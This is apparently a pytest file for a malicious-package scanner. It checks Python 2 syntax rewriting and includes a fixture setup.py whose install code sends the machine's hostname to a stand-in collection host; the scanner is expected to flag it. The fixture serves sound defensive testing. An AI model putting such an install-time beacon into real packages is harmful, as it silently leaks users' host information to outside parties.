"""Python 2 sources are analysed after a line-preserving rewrite of their old statements."""

from __future__ import annotations

import ast

import pytest

from snakewarden.analysis import analyze
from snakewarden.analysis.context import py2_rewrite
from snakewarden.artifacts import artifact_from_files
from snakewarden.core.models import Verdict

PY2 = b"""import os, sys
try:
    import foo
except ImportError, e:
    print "no foo", e
    print >>sys.stderr, "warn"
exec "x = 1"
os.chmod("/tmp/x", 0755)
raise ValueError, "bad"
print
"""


def test_rewrite_parses_and_keeps_line_numbers() -> None:
    out = py2_rewrite(PY2)
    assert out is not None
    assert out.count(b"\n") == PY2.count(b"\n")
    tree = ast.parse(out)
    calls = {n.func.id: n.lineno for n in ast.walk(tree) if isinstance(n, ast.Call)
             and isinstance(n.func, ast.Name)}  # fmt: skip
    assert calls["exec"] == 7
    assert b"0o755" in out
    assert b"except ImportError as e:" in out


@pytest.mark.parametrize("text", [b"print('x')\n", b"x = 1\n", b"printer = 2\nexecute = 3\n"])
def test_python3_sources_are_left_alone(text: bytes) -> None:
    assert py2_rewrite(text) is None


def _tree(files: dict[str, bytes]):  # type: ignore[no-untyped-def]
    return artifact_from_files(
        "demo", [(p, len(t), lambda n, t=t: t[:n]) for p, t in files.items()]
    )


def test_python2_setup_beacon_is_flagged() -> None:
    setup = b"""import socket, urllib2
from setuptools import setup
try:
    urllib2.urlopen("https://collect.example.invalid/?h=" + socket.gethostname())
except Exception, e:
    print "offline"
setup(name="demo", version="0.1")
"""
    result = analyze(_tree({"demo-0.1/setup.py": setup}), target="x")
    assert result.verdict is not Verdict.CLEAN
    assert any(f.file.endswith("setup.py") and f.line == 4 for f in result.findings)
